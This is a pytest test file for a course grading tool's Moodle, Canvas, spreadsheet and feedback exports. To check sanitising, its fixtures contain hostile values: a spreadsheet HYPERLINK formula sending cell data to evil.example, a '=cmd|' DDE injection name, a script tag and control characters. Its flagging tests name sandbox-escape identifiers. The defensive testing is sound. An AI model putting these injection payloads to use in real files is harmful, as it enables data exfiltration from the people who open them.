@@ -1,0 +1,599 @@
+"""What grading gives back: tables for people, spreadsheets and platforms, marks by hand, pages."""
+
+import csv
+import io
+import re
+import zipfile
+from argparse import Namespace
+from datetime import datetime
+
+import openpyxl
+import pytest
+
+from helpers.config.settings import COURSE_FOLDER
+from instructor.grading import oddities, open_marks, pages, platforms, tables
+from instructor.grading.command import _forget, _moment, _of_notebook, write_all
+from instructor.grading.late import add_times
+from instructor.grading.papers import read_paper
+from instructor.grading.submissions import Submission
+from instructor.notebooks.student_edition import answer_cells
+
+FORMULA = re.compile(r"(^|[,;|\t\r\n])[ \"]*[=+@＝＋－＠-]")
+HOSTILE = 'oops;=HYPERLINK("http://evil.example/"&A1,"see");\x1b[31m\x00 \u202e <script>alert(1)</script>'
+ESSAY = (
+    "**Your answer to Think! 1.10**\n\n"
+    + "Most slices of one patient look alike, and that is the point. " * 4
+)
+CODE = '''# Exercise 1.5
+def normalise(image):
+    """Scale a slice."""
+    low = np.percentile(image, 1)
+    high = np.percentile(image, 99)
+    clipped = np.clip(image, low, high)
+    scaled = (clipped - low) / (high - low)
+    rounded = np.round(255 * scaled)
+    return rounded.astype(np.uint8)
+'''
+
+
+def mark(number="1.5", got=2.0, points=2, status="correct", message="", answer=CODE):
+    about = {"id": number, "title": "Normalise a slice", "points": points, "section": "s"}
+    return about | {"status": status, "message": message, "got": got, "answer": answer, "comment": ""}
+
+
+def essay(got=None, answer="=essay"):
+    return mark("1.10", got, 3, "by hand", "A person reads this one.", answer)
+
+
+def result(student="Ana", number=None, marks=None, problem=None, notebook="01_tiny"):
+    slug = re.sub(r"\W+", "-", student.lower())
+    about = {"student": student, "slug": slug, "number": number, "notebook": notebook, "problem": problem}
+    about |= {"path": "" if problem else f"{student}/{notebook}.ipynb", "notes": [], "rerun": None}
+    return about | {"marks": [essay()] if marks is None else marks, "stored": None, "late": None}
+
+
+def written(results, out, **chosen):
+    """Write everything for results; return the folder."""
+    defaults = {"out": out, "moodle": None, "canvas": None, "assignment": "", "due": None, "late": (0, 100)}
+    write_all(results, "bubblewrap", Namespace(**defaults | chosen), {})
+    return out
+
+
+def rows_of(path, encoding="utf-8-sig", delimiter=","):
+    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""), delimiter=delimiter))
+
+
+# ---- cells ----
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@x", "\t=1", "  =1", "\r=1", "a; =1", 'a\t"=1', "x|-1", "＝1"]
+)
+def test_no_field_is_a_formula_in_any_separator(text):
+    made = tables.harmless(text)
+    assert FORMULA.search(text) and not FORMULA.search(made)
+    assert tables.without_apostrophe(made) == text
+    assert tables.harmless(made) == made
+
+
+def test_numbers_and_names_are_unchanged():
+    assert [tables.harmless(value) for value in (-1.5, "Ana = Bo", "")] == [-1.5, "Ana = Bo", ""]
+
+
+def test_a_hostile_message_is_text_everywhere(tmp_path):
+    ana = result(marks=[mark(got=0.0, status="not yet", message=HOSTILE)])
+    ana["notes"] = [HOSTILE]
+    written([ana], tmp_path)
+    for path in (tmp_path / "grades.csv", tmp_path / "open_marks.csv"):
+        assert not FORMULA.search(path.read_text(encoding="utf-8-sig")), path.name
+    cells = [cell for row in openpyxl.load_workbook(tmp_path / "grades.xlsx").active for cell in row]
+    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}  # no formula
+    assert any("HYPERLINK" in str(cell.value) for cell in cells)
+    texts = {
+        path: path.read_text("utf-8")
+        for path in tmp_path.rglob("*")
+        if path.suffix != ".xlsx" and path.is_file()
+    }
+    assert not any("<script>alert" in text for path, text in texts.items() if path.suffix == ".html")
+    for text in [*texts.values(), *(str(cell.value) for cell in cells)]:
+        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]", text)
+
+
+# ---- marks given by hand ----
+
+
+def fill(path, mark, delimiter=",", comment="Well said", encoding="utf-8"):
+    rows = rows_of(path)
+    for row in rows[1:]:
+        row[3], row[4] = tables.harmless(mark), tables.harmless(comment)
+    with path.open("w", encoding=encoding, newline="") as handle:
+        csv.writer(handle, delimiter=delimiter).writerows(rows)
+
+
+@pytest.mark.parametrize(
+    ("mark", "delimiter", "encoding", "got"),
+    [
+        ("2.5", ",", "utf-8", 2.5),
+        ("2,5", ";", "utf-8-sig", 2.5),
+        ("2,5", ";", "cp1252", 2.5),
+        ("0", "\t", "utf-16", 0),
+        ("+1", ",", "utf-8", 1),
+    ],
+)
+def test_marks_given_by_hand_are_kept(tmp_path, mark, delimiter, encoding, got):
+    path = tmp_path / "open_marks.csv"
+    student, comment = "=Begoña", "“Así” – muy bien"
+    open_marks.take_open_marks([result(student)], path)
+    fill(path, mark, delimiter, comment, encoding)
+    for _ in range(2):  # they survive being written again
+        again = [result(student)]
+        assert open_marks.take_open_marks(again, path) == []
+        assert {name: again[0]["marks"][0][name] for name in ("got", "comment", "status")} == {
+            "got": got, "comment": comment, "status": "marked by hand"
+        }  # fmt: skip
+        assert tables.sums(again) == {"got": got, "out_of": 3, "waiting": 0, "final": True}
+
+
+def test_marks_saved_as_a_workbook_are_taken(tmp_path):
+    path = tmp_path / "open_marks.csv"
+    open_marks.take_open_marks([result()], path)
+    book = openpyxl.Workbook()
+    for row in rows_of(path):
+        book.active.append(row)
+    book.active["D2"], book.active["E2"] = 2.5, "Well said"
+    book.save(path.with_suffix(".xlsx"))
+    for _ in range(2):  # then from the CSV file, which is newer
+        again = [result()]
+        open_marks.take_open_marks(again, path)
+        assert (again[0]["marks"][0]["got"], again[0]["marks"][0]["comment"]) == (2.5, "Well said")
+
+
+@pytest.mark.parametrize("exercise", ["1.5", "1.5 whatever the spreadsheet shows"])
+def test_any_mark_can_be_replaced(tmp_path, exercise):
+    path = tmp_path / "open_marks.csv"
+    wrong = mark(got=0.0, status="not yet", message="No.")
+    path.write_text(f"student,exercise,points,mark,comment\nAna,{exercise},,1.5,My fault\nNobody,1.5,,1,\n")
+    for _ in range(2):
+        results = [result(marks=[dict(wrong)])]
+        assert open_marks.take_open_marks(results, path) == ["Nobody, 1.5"]
+        (taken,) = results[0]["marks"]
+        assert (taken["got"], taken["status"], taken["comment"]) == (1.5, "marked by hand", "My fault")
+        assert results[0]["notes"] == []
+
+
+def test_what_could_not_be_graded_waits_and_can_be_marked(tmp_path):
+    path = tmp_path / "open_marks.csv"
+    broken = result(marks=[mark(got=0.0, status="not found", answer="")], problem="x.pdf is not a notebook")
+    open_marks.take_open_marks([broken], path)
+    assert tables.sums([broken]) == {"got": 0, "out_of": 2, "waiting": 2, "final": False}
+    path.write_text("student,exercise,points,mark,comment\nAna,1.5,,0,Not a notebook\n")
+    open_marks.take_open_marks([broken], path)
+    assert tables.sums([broken])["final"]
+
+
+@pytest.mark.parametrize("status", ["not graded", "needs a look"])
+def test_a_mark_that_no_run_gave_is_listed_for_a_person(tmp_path, status):
+    path = tmp_path / "open_marks.csv"
+    one = result(marks=[mark(got=None, status=status, message="the runner was disturbed")])
+    open_marks.take_open_marks([one], path)
+    assert rows_of(path)[1][:2] == ["Ana", "1.5 Normalise a slice"]
+    assert any("1.5 was not graded: the runner" in reason for reason in tables.reasons_to_look([one]))
+
+
+@pytest.mark.parametrize("other", ["not found", "the grader failed", "another class"])
+def test_marks_given_by_hand_survive_a_run_without_the_answer(tmp_path, other):
+    path = tmp_path / "open_marks.csv"
+    open_marks.take_open_marks([result(), result("Bo")], path)
+    fill(path, "2", comment="+ well said")
+    run = [result(), result("Bo")] if other != "another class" else [result("Cy")]
+    for one in run if other != "another class" else []:
+        one["marks"] = [mark("1.10", 0, 3, "not found", answer="")] if other == "not found" else []
+    open_marks.take_open_marks(run, path)
+    again = [result(), result("Bo")]
+    open_marks.take_open_marks(again, path)
+    assert [one["marks"][0]["got"] for one in again] == [2, 2]
+    assert [one["marks"][0]["comment"] for one in again] == ["+ well said"] * 2
+    assert again[0]["notes"] == []
+
+
+def test_an_interrupted_write_preserves_the_marks(tmp_path, monkeypatch):
+    path = tmp_path / "open_marks.csv"
+    open_marks.take_open_marks([result()], path)
+    fill(path, "2")
+    before = path.read_text()
+    monkeypatch.setattr(tables, "harmless", lambda value: 1 / 0)
+    with pytest.raises(ZeroDivisionError):
+        open_marks.take_open_marks([result()], path)
+    assert path.read_text() == before
+
+
+@pytest.mark.parametrize("answer", ["x" * 150_000, "one\u2028two\x0cthree", "a\r\nb", "- one\n- two; =3"])
+def test_any_answer_can_be_read_back(tmp_path, answer):
+    path = tmp_path / "open_marks.csv"
+    results = [result(marks=[essay(answer=answer)]), result("Bo")]
+    open_marks.take_open_marks(results, path)
+    csv.field_size_limit(131_072)
+    fill(path, "2") if len(answer) < 131_072 else None
+    open_marks.take_open_marks(results, path)
+    assert results[0]["notes"] == []
+    assert results[1]["marks"][0]["got"] == (2 if len(answer) < 131_072 else None)
+
+
+def test_an_answer_changed_after_marking_is_reported(tmp_path):
+    path = tmp_path / "open_marks.csv"
+    open_marks.take_open_marks([result()], path)
+    fill(path, "2")
+    same, changed = result(), result(marks=[essay(answer="=another essay")])
+    open_marks.take_open_marks([same], path)
+    assert same["notes"] == []
+    open_marks.take_open_marks([changed], path)
+    assert "1.10 has changed" in changed["notes"][0]
+    assert changed["marks"][0]["got"] == 2
+
+
+@pytest.mark.parametrize("mark", ["4", "-1", "good", "nan"])
+def test_an_invalid_mark_is_refused(tmp_path, mark):
+    path = tmp_path / "open_marks.csv"
+    open_marks.take_open_marks([result()], path)
+    fill(path, mark)
+    before = path.read_text()
+    with pytest.raises(open_marks.OpenMarksError, match=r"Ana, 1\.10: the mark is"):
+        open_marks.take_open_marks([result()], path)
+    assert path.read_text() == before
+
+
+# ---- Moodle ----
+
+ENGLISH = ("Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
+           "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
+           "Feedback comments")  # fmt: skip
+SPANISH = ("Identificador", "Nombre completo", "Dirección de correo", "Estado", "Calificación",
+           "Calificación máxima", "La calificación puede ser cambiada", "Última modificación (entrega)",
+           "Última modificación (calificación)", "Comentarios de retroalimentación")  # fmt: skip
+GERMAN = ("ID", "Vollständiger Name", "E-Mail-Adresse", "Status", "Bewertung", "Bestwertung",
+          "Bewertung kann geändert werden", "Zuletzt geändert (Abgabe)", "Zuletzt geändert (Bewertung)",
+          "Feedback als Kommentar")  # fmt: skip
+WORD = {ENGLISH: "Participant ", SPANISH: "Participante", GERMAN: "Teilnehmer/in"}
+WHEN = {ENGLISH: "Saturday, 21 November 2026, 10:00 AM", SPANISH: "sábado, 21 de noviembre de 2026, 10:00",
+        GERMAN: "Samstag, 21. November 2026, 10:00"}  # fmt: skip
+PEOPLE = [
+    (55, "Ana Pérez", "ana@x.example"),
+    (56, '=cmd|"x", "y"\nBo', "bo@x.example"),
+    (57, "Cy", "cy@x.example"),
+    (58, "Dora", "dora@x.example"),
+    (59, "Eve", "eve@x.example"),
+]
+
+
+def worksheet(path, header=ENGLISH, encoding="utf-8-sig", delimiter=",", maximum="10.00"):
+    """Write a worksheet as Moodle gives it: mod/assign/gradingtable.php."""
+    text = io.StringIO(newline="")
+    writer = csv.writer(text, delimiter=delimiter, lineterminator="\n")
+    writer.writerow(header)
+    for number, name, mail in PEOPLE:
+        about = [f"{WORD[header]}{number}", name, mail, "Submitted", "", maximum, "Yes"]
+        writer.writerow([*about, WHEN[header], "-", ""])
+    path.write_bytes(text.getvalue().encode(encoding))
+    return path
+
+
+def class_of_five():
+    """By number, by number with a hostile name, by e-mail, by name with an answer to be read, and unknown."""
+    return [
+        result("Ana Pérez", "55", [mark(got=1.0, status="not yet", message=f"Use <= here; =1+1 {HOSTILE}")]),
+        result('=cmd "x", "y" Bo', "56", [mark()]),
+        result("cy@x.example", None, [mark(got=0.0, status="not yet")]),
+        result("Dora", None, [essay()]),
+        result("Zoe", None, [mark()]),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("header", "encoding", "delimiter", "maximum"),
+    [
+        (ENGLISH, "utf-8-sig", ",", "10.00"),
+        (SPANISH, "utf-8", ",", "10,00"),
+        (SPANISH, "cp1252", ";", "10,00"),
+        (GERMAN, "utf-16", "\t", "10,00"),
+    ],
+)
+def test_moodles_own_worksheet_is_filled_in(tmp_path, capsys, header, encoding, delimiter, maximum):
+    given = worksheet(tmp_path / "given.csv", header, encoding, delimiter, maximum)
+    written(class_of_five(), tmp_path / "out", moodle=given)
+    content = (tmp_path / "out" / "moodle.csv").read_bytes()
+    assert content.startswith(given.read_bytes()[:3])  # with or without the mark of byte order
+    before, after = (rows_of(path, encoding, delimiter) for path in (given, tmp_path / "out" / "moodle.csv"))
+    grade, comment = header.index(header[4]), len(header) - 1
+    expected = ["5.00", "10.00", "0.00", "", ""]
+    assert [row[grade] for row in after[1:]] == [one.replace(".", maximum[2]) for one in expected]
+    kept = [place for place in range(len(header)) if place not in (grade, comment)]
+    assert [[row[place] for place in kept] for row in after] == [
+        [row[place] for place in kept] for row in before
+    ]
+    assert [bool(row[comment]) for row in after[1:]] == [True, True, True, False, False]
+    assert "<li>1.5 Normalise a slice: 1 of 2. Use &lt;&#61; here; &#61;1&#43;1" in after[1][comment]
+    assert not FORMULA.search(after[1][comment]) and "<script" not in after[1][comment]
+    said = capsys.readouterr().out
+    assert "moodle.csv: 3 grades. No grade yet: Dora. In no row, or not in one alone: Zoe." in said
+
+
+@pytest.mark.parametrize("header", [ENGLISH, SPANISH])
+def test_moodles_importer_reads_the_worksheet(tmp_path, header):
+    """Its rule, in importgradeslib.php: three columns by name; the number, after the site's word."""
+    given = worksheet(tmp_path / "given.csv", header)
+    rows = rows_of(written(class_of_five(), tmp_path, moodle=given) / "moodle.csv")
+    places = [rows[0].index(header[place]) for place in (0, 4, 8)]
+    assert places == [0, 4, 8]
+    ids = [int(row[0][len(WORD[header]) :]) for row in rows[1:]]
+    assert ids == [number for number, *_ in PEOPLE]
+
+
+def test_a_worksheet_of_another_assignment_gives_nobody_anothers_grade(tmp_path):
+    """Moodle numbers the participants of each assignment anew."""
+    given = worksheet(tmp_path / "given.csv")
+    results = [
+        result("Eve", "55", [mark(got=1.0)]),
+        result("Cy", "59", [mark()]),
+        result("Ana Perez", "57", [mark()]),
+    ]
+    rows = rows_of(written(results, tmp_path, moodle=given) / "moodle.csv")
+    assert {row[1]: row[4] for row in rows[1:] if row[4]} == {
+        "Eve": "5.00",
+        "Cy": "10.00",
+        "Ana Pérez": "10.00",
+    }
+
+
+def test_students_with_one_name_are_told_apart_by_number_alone(tmp_path, capsys):
+    """Whoever takes another's name gets nobody's row."""
+    given = worksheet(tmp_path / "given.csv")
+    numbers = {"Cy (57)": "57", "Cy": None, "Eve (1)": None, "Eve (2)": None, "Submitted": None, "Yes": None}
+    results = [result(name, number, [mark(got=2.0 if number else 1.0)]) for name, number in numbers.items()]
+    rows = rows_of(written(results, tmp_path, moodle=given) / "moodle.csv")
+    assert {row[1]: row[4] for row in rows[1:] if row[4]} == {"Cy": "10.00"}
+    assert "not in one alone: Cy, Eve (1), Eve (2), Submitted, Yes." in capsys.readouterr().out
+
+
+def test_blind_marking_matches_by_number(tmp_path):
+    given = tmp_path / "given.csv"
+    given.write_text(
+        "Identifier,Status,Grade,Maximum Grade,Last modified (grade)\nParticipant 7,Sent,,10.00,-\n"
+    )
+    rows = rows_of(
+        written([result("Participant", "7", [mark()])], tmp_path, moodle=given) / "moodle.csv", "utf-8"
+    )
+    assert rows[1] == ["Participant 7", "Sent", "10.00", "10.00", "-"]
+
+
+@pytest.mark.parametrize("content", ["", "a,b\n1,2\n", "Identifier,Grade,Scale\nParticipant 1,,Good\n"])
+def test_another_table_is_no_worksheet(tmp_path, content):
+    path = tmp_path / "x.csv"
+    path.write_text(content)
+    with pytest.raises(platforms.PlatformError, match="maximum grade"):
+        platforms.read_moodle(path, [])
+
+
+def test_feedback_files_have_the_names_that_moodle_reads(tmp_path):
+    given = worksheet(tmp_path / "given.csv")
+    written(class_of_five(), tmp_path, moodle=given)
+    with zipfile.ZipFile(tmp_path / "feedback.zip") as archive:
+        names = archive.namelist()
+        assert b"Feedback for" in archive.read(names[0])
+    # is_valid_filename_for_import of mod/assign/feedback/file/importziplib.php
+    parts = [name.split("/")[0].split("_", 4) for name in names]
+    assert [part[1:] for part in parts] == [[n, "assignsubmission", "file", ""] for n in ("55", "56", "57")]
+    assert {name.rpartition("/")[2] for name in names} == {"feedback.html"}
+
+
+# ---- Canvas ----
+
+
+def gradebook(path, delimiter=",", points="20.00"):
+    """Write a gradebook as Canvas exports it: lib/gradebook_exporter.rb."""
+    rows = [
+        [
+            "Student",
+            "ID",
+            "SIS Login ID",
+            "Section",
+            "Notebook 1 (101)",
+            "Notebook 2 (102)",
+            "Final Score (2026)",
+        ],
+        ["", "", "", "", "Manual Posting", "", ""],
+        ["    Points Possible", "", "", "", points, points, "(read only)"],
+        ["Pérez, Ana", "55", "ana@x.example", "A", "", "9", "1"],
+        ['=Bo, "B"', "56", "bo@x.example", "A", "3", "", "1"],
+        ["Cy", "57", "cy@x.example", "A", "EX", "", "1"],
+        ["Student, Test", "60", "", "A", "", "", "1"],
+    ]
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle, delimiter=delimiter).writerows(rows)
+    return path
+
+
+@pytest.mark.parametrize(("delimiter", "points", "ana"), [(",", "20.00", "10.00"), (";", "20,00", "10,00")])
+def test_canvas_gradebook_is_filled_in(tmp_path, capsys, delimiter, points, ana):
+    given = gradebook(tmp_path / "given.csv", delimiter, points)
+    results = [
+        result("Ana Perez", None, [mark(got=1.0)]),
+        result("bob", "56", [essay()]),
+        result("Cy", "57", [mark()]),
+    ]
+    out = written(results, tmp_path, canvas=given, assignment="notebook 1")
+    before, after = rows_of(given, "utf-8", delimiter), rows_of(out / "canvas.csv", "utf-8", delimiter)
+    before[3][4] = ana
+    assert after == before
+    assert "canvas.csv: 1 grades. No grade yet: bob, Cy." in capsys.readouterr().out
+    with pytest.raises(platforms.PlatformError, match=r"'Notebook 1 \(101\)', 'Notebook 2 \(102\)'"):
+        platforms.read_canvas(given, results, "")
+
+
+# ---- late submissions ----
+
+
+def test_late_submissions_lose_points_unless_a_person_says_otherwise(tmp_path):
+    given = worksheet(tmp_path / "given.csv")
+    due = datetime(2026, 11, 19, 23, 59)
+    for percent, grade in ((None, "8.00"), ("0", "10.00")):
+        results = [result("Ana Pérez", "55", [mark()]), result("Zoe", None, [mark()])]
+        written(results, tmp_path, moodle=given, due=due, late=(10, 50))
+        assert rows_of(tmp_path / "moodle.csv")[1][4] == grade
+        text = (tmp_path / "feedback" / "ana-pérez.html").read_text("utf-8")
+        assert "Submitted 2026-11-21 10:00" in text and "2 days late" in text
+        assert "not known" in (tmp_path / "summary.html").read_text("utf-8")
+        rows = rows_of(tmp_path / "open_marks.csv")
+        assert rows[1][1] == "late 01 percent taken off"
+        rows[1][3] = percent or "0"
+        with (tmp_path / "open_marks.csv").open("w", newline="", encoding="utf-8") as handle:
+            csv.writer(handle).writerows(rows)
+
+
+def test_the_most_that_is_taken_off():
+    results = [result()]
+    for hours, percent in ((-1, 0), (0, 0), (1, 10), (24, 10), (25, 20), (2400, 50)):
+        due = datetime(2026, 11, 20)
+        add_times(results, {"Ana": datetime.fromtimestamp(due.timestamp() + 3600 * hours)}, due, (10, 50))
+        assert (results[0]["late"] or {"got": 0})["got"] == percent
+    with pytest.raises(Exception, match="Give --due"):
+        add_times(results, {}, None, (10, 50))
+
+
+@pytest.mark.parametrize(
+    ("text", "due"),
+    [("2026-11-20T18:00", datetime(2026, 11, 20, 18)), ("2026-11-20", datetime(2026, 11, 20, 23, 59, 59))],
+)
+def test_a_deadline_without_a_time_is_the_end_of_the_day(text, due):
+    assert _moment(text) == due
+
+
+def test_the_time_of_a_download_makes_nobody_late(tmp_path):
+    results = [result(name, None, [mark()]) for name in ("Ana", "Bo")]
+    times = {one["path"]: datetime(2026, 11, 26) for one in results}
+    chosen = Namespace(
+        out=tmp_path, moodle=None, canvas=None, assignment="", due=datetime(2026, 11, 20), late=(10, 50)
+    )
+    with pytest.raises(Exception, match="everybody was late"):
+        write_all(results, "box", chosen, times)
+
+
+@pytest.mark.parametrize(
+    ("text", "time"),
+    [
+        ("Monday, 5 October 2026, 10:00 PM", datetime(2026, 10, 5, 22)),
+        ("lunes, 5 de octubre de 2026, 10:00", datetime(2026, 10, 5, 10)),
+        ("martes, 3 de marzo de 2026, 09:05", datetime(2026, 3, 3, 9, 5)),
+        ("lundi 5 octobre 2026, 10:00", None),
+        ("-", None),
+        ("", None),
+    ],
+)
+def test_times_are_read_as_moodle_writes_them(text, time):
+    assert platforms._time(text) == time
+
+
+# ---- what a person should look at ----
+
+
+@pytest.mark.parametrize(
+    ("body", "odd"),
+    [
+        ("import gc\n", ["gc"]),
+        ("from helpers.checks import exercise\n", ["checks"]),
+        ("x = ().__class__.__subclasses__()\n", ["__class__", "__subclasses__"]),
+        ("# import os\nx = 'sys'\n", []),
+        ("os = 1" + "(" * 10_000, ["os"]),
+        ("x = " + "-" * 100_000 + "1\nimport sys\n", ["sys"]),
+    ],
+)
+def test_names_that_reach_beyond_an_answer_are_flagged(body, odd):
+    assert oddities.odd_names(mark(answer=body)) == odd
+    assert any(
+        "exercise 1.5 uses" in line for line in tables.reasons_to_look([result(marks=[mark(answer=body)])])
+    ) == (odd != [])
+
+
+def test_no_solution_is_flagged():
+    """A flag that honest answers get would not be read."""
+    paths = sorted((COURSE_FOLDER / "notebooks").glob("[0-9]*.ipynb"))
+    answers = [one for path in paths for one in answer_cells(read_paper(path.read_bytes())).items()]
+    assert len(answers) > 20
+    assert [
+        odd for number, answer in answers if (odd := oddities.odd_names(mark(number, answer=answer)))
+    ] == []
+
+
+def test_answers_that_are_alike_are_shown(tmp_path):
+    renamed = CODE.replace("low", "a").replace("clipped", "b").replace('"""Scale a slice."""', "# mine")
+    other = CODE.replace("np.clip(image, low, high)", "np.minimum(np.maximum(image, low), high)")
+    short = mark("1.2.1", answer="# Exercise 1.2.1\ndef f(x):\n    return x")
+    answers = {"Ana": CODE, "Bo": renamed, "Cy": other}
+    results = [
+        result(name, None, [mark(answer=code), dict(short), essay()]) for name, code in answers.items()
+    ]
+    results += [
+        result("Di", None, [essay(answer=ESSAY)]),
+        result("Ed", None, [essay(answer=ESSAY.replace(" look", "\nlook"))]),
+    ]
+    found = oddities.alike(results)
+    assert [(one["exercise"][:4].strip(), one["students"]) for one in found] == [
+        ("1.5", ["Ana", "Bo"]),
+        ("1.10", ["Di", "Ed"]),
+    ]
+    text = (written(results, tmp_path) / "summary.html").read_text("utf-8")
+    assert "Ana, Bo" in text and "def normalise" in text
+
+
+def test_the_summary_shows_the_most_frequent_message_and_leaves_out_what_waits():
+    messages = ["3 of 5 wrong", "4 of 5 wrong", "Other"]
+    results = [
+        result(str(n), None, [mark(got=0.0, status="not yet", message=one)]) for n, one in enumerate(messages)
+    ]
+    results += [result("read", None, [mark(), essay()]), result("waits", None, [essay()])]
+    results += [result("away", None, [mark(got=0.0, status="not found")], problem="was not submitted")]
+    summary = pages._summary(results)
+    row = next(row for row in summary["exercises"] if row["id"] == "1.5")
+    assert (row["times"], row["wrong"], row["message"], row["blank"]) == (2, 3, "3 of 5 wrong", 0)
+    assert summary["bins"] == [3, 0, 0, 0, 0, 0, 0, 0, 0, 1]
+    assert summary["waiting"] == 2
+
+
+def test_the_feedback_shows_a_free_text_answer_with_its_rubric_and_comment(tmp_path):
+    path = tmp_path / "open_marks.csv"
+    path.write_text("student,exercise,points,mark,comment\nAna,1.10,,2,Say how many\n")
+    text = (
+        written([result(marks=[essay(answer="Because <b>")])], tmp_path) / "feedback" / "ana.html"
+    ).read_text()
+    assert "Because &lt;b&gt;" in text and "Say how many" in text and "marked by hand" in text
+    assert "links slices of one patient" in text
+
+
+# ---- one notebook, one student ----
+
+
+def test_one_notebook_alone():
+    wrong = "x.pdf is not a notebook"
+    found = [
+        Submission("Ana", "ana", None, "01_tiny", problem=wrong, notes=[wrong]),
+        Submission("Ana", "ana", None, "02_tiny", problem="was not submitted"),
+        Submission("Bo", "bo", None, "01_tiny", problem="was not submitted"),
+        Submission("Bo", "bo", None, "02_tiny", path="Bo/02.ipynb"),
+    ]
+    assert [one.problem for one in _of_notebook(found, "02")] == ["x.pdf is not a notebook", None]
+    with pytest.raises(Exception, match="01_tiny, 02_tiny"):
+        _of_notebook(found, "03")
+
+
+def test_one_student_again_keeps_the_results_of_others(tmp_path):
+    names = ["ana--01_tiny", "ana--02_tiny", "ana-maria--01_tiny"]
+    for name in names:
+        (tmp_path / f"{name}.json").touch()
+    found = [
+        Submission(name, name.lower().replace(" ", "-"), None, "01_tiny") for name in ("Ana", "Ana Maria")
+    ]
+    _forget(tmp_path, found, None)
+    assert sorted(path.stem for path in tmp_path.iterdir()) == names
+    _forget(tmp_path, found, "ana")
+    assert [path.stem for path in tmp_path.iterdir()] == ["ana-maria--01_tiny"]
+    with pytest.raises(Exception, match="nobody has this name"):
+        _forget(tmp_path, found, "an")
